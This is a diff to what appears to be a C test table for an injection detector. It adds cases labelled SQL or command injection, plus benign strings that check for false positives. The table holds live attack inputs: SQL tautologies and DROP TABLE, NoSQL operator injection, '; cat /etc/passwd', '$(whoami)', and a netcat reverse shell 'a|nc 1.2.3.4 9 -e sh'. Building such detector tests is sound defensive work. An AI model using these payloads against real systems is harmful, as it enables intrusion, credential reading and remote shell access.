@@ -21,7 +21,8 @@ struct dcase {
 };
 
 static const struct dcase dcases[] = {
-	{ "' OR '1'='1", B(SQL) }, { "admin'--", B(SQL) }, { "1 union select 1,2", B(SQL) },
+	{ "' OR '1'='1", B(SQL) }, { "1' RLIKE (SELECT 1)-- x", B(SQL) }, { "; echo hacked > /tmp/x", B(CMD) },
+	{ "the 'is' keyword", 0 }, { "Let's meet at 5pm; bring the docs", 0 }, { "He said \"drop it\" or else", 0 }, { "admin'--", B(SQL) }, { "1 union select 1,2", B(SQL) },
 	{ "1; DROP TABLE users", B(SQL) }, { "x'/**/oR/**/1=1#", B(SQL) }, { "1 AND SLEEP(5)", B(SQL) },
 	{ "{\"$ne\": 1}", B(NOSQL) }, { "'; return true; var a='", B(NOSQL) },
 	{ "; cat /etc/passwd", B(CMD) }, { "$(whoami)", B(CMD) }, { "a|nc 1.2.3.4 9 -e sh", B(CMD) },
